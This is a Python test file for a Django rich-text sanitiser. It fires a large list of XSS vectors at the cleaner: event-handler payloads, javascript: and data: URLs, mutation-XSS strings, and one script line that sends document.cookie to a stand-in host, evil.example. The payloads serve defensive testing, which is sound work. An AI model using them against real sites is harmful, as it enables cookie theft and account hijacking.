"""Rich text: nothing but the allow-list comes out, and the words stay."""

import itertools
import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.models import Article
from articles.richtext import ATTRIBUTES, TAGS, RichTextFormField, rendered, sanitise


def soup(html):
    return BeautifulSoup(html, "html5lib").body


def assert_harmless(html):
    """Check a sanitised text as a browser parses it."""
    for element in soup(html).find_all(True):
        assert element.name in TAGS, html
        assert set(element.attrs) <= ATTRIBUTES.get(element.name, set()), html
        for name in ["href", "cite"]:
            value = element.get(name)
            if value is not None:
                assert re.match(r"(https?://[^/\\]|mailto:|tel:|/(?![/\\])|#)", value, re.IGNORECASE), html
        for name in element.attrs:
            assert not name.startswith("on"), html
        if element.get("id"):
            assert element["id"].startswith(("s-", "fn-")), html


SCRIPTS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example/'+document.cookie)"]
HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
            "ONERROR", "onbeforeinput", "oncut", "onwheel"]  # fmt: skip
ELEMENTS = ["img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "details open", "input autofocus",
            "a href=#s-x", "p", "table", "td", "object data=x", "marquee", "select autofocus", "style"]  # fmt: skip
ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
             "java\nscript:alert(1)", "\x01javascript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
             "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/", "/\\evil.example/",
             "\\\\evil.example", "/\t/evil.example/", "http:evil", "https:///evil.example", "blob:x", "file:///etc/passwd",
             "ftp://evil.example", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "#\"onclick=alert(1)"]  # fmt: skip
CARRIERS = ['<a href="{}">x</a>', '<blockquote cite="{}">x</blockquote>', '<img src="{}">', '<iframe src="{}"></iframe>',
            '<form action="{}"><button formaction="{}">x</button></form>', '<base href="{}">',
            '<svg><a xlink:href="{}"><text>x</text></a></svg>']  # fmt: skip
MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<p style="background:url(javascript:alert(1))" class="x" onclick=alert(1)>x</p>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"https://e.org/\" target=_blank rel='opener' ping=//evil.example style=x>x</a>",
    '<a id="document" name="getElementById">x</a><p id="cookie">y</p>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    '<math href="javascript:alert(1)">x</math>',
    '<abbr title="&quot;><img src=x onerror=alert(1)>">x</abbr>',
    '<span lang="en&quot; onclick=&quot;alert(1)">x</span>',
    '<th scope="x onclick=alert(1)" colspan="99999999">x</th>',
    "<table><caption><svg><style><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "{{constructor.constructor('alert(1)')()}}<b v-on:click=alert(1)>",
]
VECTORS = [
    *(f"<{element} {handler}={script}>x" for element, (handler, script) in zip(
        ELEMENTS * 6, itertools.cycle(itertools.product(HANDLERS, SCRIPTS)), strict=False)),
    *(carrier.replace("{}", address) for carrier in CARRIERS for address in ADDRESSES),
    *(f"<script{extra}>{script}</script>" for extra in ["", " src=//evil.example", "/x", "\n"] for script in SCRIPTS),
    *MUTATIONS,
]  # fmt: skip


def test_there_are_enough_vectors():
    assert len(set(VECTORS)) > 240


@pytest.mark.parametrize("vector", VECTORS)
def test_scripts_stay_dead(vector):
    clean = sanitise(vector)
    assert_harmless(clean)
    assert sanitise(clean) == clean
    assert_rendered_alike(clean)


def assert_rendered_alike(clean):
    tags = [element.name for element in soup(rendered(clean)).find_all(True) if element.name != "div"]
    assert tags == [element.name for element in soup(clean).find_all(True)]


PIECES = st.one_of(
    st.sampled_from(
        [f"<{tag}>" for tag in [*sorted(TAGS), "div", "b", "i", "h1", "h5", "svg", "math", "style", "script", "form",
                                "select", "template", "option", "button", "mtext", "pre", "xmp", "title", "font"]]
        + [f"</{tag}>" for tag in [*sorted(TAGS), "div", "b", "i", "h1", "svg", "math", "style", "script", "select"]]
        + ['<a href="#s-x" id="fn-1">', '<a href="//x">', "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#0;", "&amp",
           '<p lang="lo" dir="ltr">', '<span lang="vi">', '<h2 id="s-x">', '<a name="_ftn1" href="#_ftnref1">']
    ),
    st.text(max_size=12),
    st.sampled_from(["\x00", "\ud800", "\r", "\n", "\xa0", '"', "'", "<", ">", "&"]),
)  # fmt: skip


@settings(deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_twice_is_as_once_for_any_mark_up(text):
    clean = sanitise(text)
    assert sanitise(clean) == clean
    assert_harmless(clean)


@settings(deadline=None)
@given(st.text())
def test_it_never_raises_for_any_text(text):
    assert_harmless(sanitise(text))


@pytest.mark.parametrize(
    "value", [None, "", "\x00", "\udfff", "<" * 5000, "<p>" * 3000, "<a href=" * 500, "&#xD800;"]
)
def test_it_survives_odd_values(value):
    assert sanitise(sanitise(value)) == sanitise(value)


WORDS = st.lists(st.text("abcdefghij", min_size=1, max_size=6), min_size=1, max_size=12)
WRAPS = ["{}", "<p>{}</p>", "<div>{}</div>", "<h1>{}</h1>", "<ul><li>{}</li></ul>", "<blockquote>{}</blockquote>",
         "<section><h5>{}</h5></section>", " <b>{}</b> ", " <font color=red>{}</font> ", "<dl><dt>{}</dt></dl>",
         "<table><tr><td>{}</td></tr></table>", "<details><summary>{}</summary></details>", "<pre>{}</pre>",
         "<center>{}</center>", " <o:p>{}</o:p> ", " <span style='mso-x:y'>{}</span> ", "<article>{}</article>"]  # fmt: skip


@settings(deadline=None)
@given(WORDS, st.lists(st.sampled_from(WRAPS), min_size=12, max_size=12))
def test_the_words_come_out_whole_and_in_order(words, wraps):
    text = "".join(
        f" {wrap.format(word)}" if wrap == "{}" else wrap.format(word)
        for word, wrap in zip(words, wraps, strict=False)
    )
    assert soup(sanitise(text)).get_text(" ").split() == words


@pytest.mark.parametrize(
    ("pasted", "stored"),
    [
        ("<h1>A</h1><h2>B</h2><h5>C</h5>", '<h2 id="s-a">A</h2><h3 id="s-b">B</h3><h4 id="s-c">C</h4>'),
        ("<p>a <b>b</b> <i>c</i></p>", "<p>a <strong>b</strong> <em>c</em></p>"),
        ("<div>a</div><div>b</div>", "<p>a</p><p>b</p>"),
        ('<p class="MsoNormal" style="x">a<o:p></o:p></p><p>&nbsp;</p>', "<p>a</p>"),
        ('<a href="https://e.org/">x</a>', '<a href="https://e.org/" rel="noopener">x</a>'),
        ('<a href="/about/" rel="nofollow">x</a>', '<a href="/about/">x</a>'),
        ('<a href="mailto:a@e.org">x</a>', '<a href="mailto:a@e.org">x</a>'),
        ('<a href="#nowhere">x</a>', "x"),
        ('<a href="//evil.example">x</a>', "x"),
        ('<span style="color:red">x</span>', "x"),
        ('<span lang="lo">x</span>', '<span lang="lo">x</span>'),
        ('<p id="main">x</p>', "<p>x</p>"),
        ("a\x00b\ud800c", "abc"),
    ],
)
def test_it_stores_clean_mark_up(pasted, stored):
    assert sanitise(pasted) == stored


@pytest.mark.parametrize(
    ("mark", "note"),
    [
        ('<a href="#_ftn1" name="_ftnref1">[1]</a>', '<a href="#_ftnref1" name="_ftn1">[1]</a>'),
        ('<sup><a href="#ftnt1" id="ftnt_ref1">[1]</a></sup>', '<a href="#ftnt_ref1" id="ftnt1">[1]</a>'),
        ('<a class="sdfootnoteanc" name="sdfootnote1anc" href="#sdfootnote1sym">1</a>',
         '<a class="sdfootnotesym" name="sdfootnote1sym" href="#sdfootnote1anc">1</a>'),
    ],
)  # fmt: skip
def test_footnotes_of_word_processors_work(mark, note):
    page = soup(sanitise(f"<p>Text{mark}</p><p>{note} The note.</p>"))
    up, down = page.find_all("a")
    assert up["href"] == f"#{down['id']}"
    assert down["href"] == f"#{up['id']}"


def test_headings_get_ids_that_stay_and_links_to_them_work():
    once = sanitise('<h2>Shelter</h2><h2>Shelter</h2><h2>ທີ່ພັກ</h2><p><a href="#s-shelter-2">there</a></p>')
    assert [heading["id"] for heading in soup(once).find_all("h2")] == ["s-shelter", "s-shelter-2", "s-ທີ່ພັກ"]
    assert 'href="#s-shelter-2"' in once
    assert 'id="s-shelter">Home<' in sanitise(once.replace("Shelter", "Home", 1))


def test_wide_tables_scroll_in_a_box_that_the_keyboard_reaches():
    page = soup(
        rendered(
            sanitise(
                '<table><caption>People "sent" back</caption><tr><td>a</td></tr></table><table><tr><td>b'
            )
        )
    )
    boxes = page.find_all("div", class_="table-scroll")
    assert [box["aria-label"] for box in boxes] == ['People "sent" back', "Table"]
    assert all(box["tabindex"] == "0" and box["role"] == "region" for box in boxes)


@pytest.mark.django_db
def test_the_field_cleans_on_save_and_before_the_editor_gets_it(make_article):
    dirty = '<p onclick="alert(1)">x</p><script>alert(1)</script>'
    article = make_article(body_html=dirty)
    assert Article.objects.get().body_html == "<p>x</p>"
    Article.objects.update(body_html=dirty)
    article.refresh_from_db()
    field = RichTextFormField()
    assert field.prepare_value(article.body_html) == "<p>x</p>"
    assert field.clean(dirty) == "<p>x</p>"


def test_the_fence_around_the_editor_holds():
    config = RichTextFormField().widget.config
    removed = set(config["removePlugins"].split(","))
    assert removed >= {"preview", "sourcearea", "docprops", "iframe", "flash", "forms", "image", "filebrowser",
                       "scayt", "wsc", "exportpdf", "templates", "print", "newpage", "save"}  # fmt: skip
    assert "divarea" in config["extraPlugins"]
    assert config["versionCheck"] is False
    assert not {"on", "style", "class", "script"} & set(re.findall(r"[a-z]+", config["allowedContent"]))
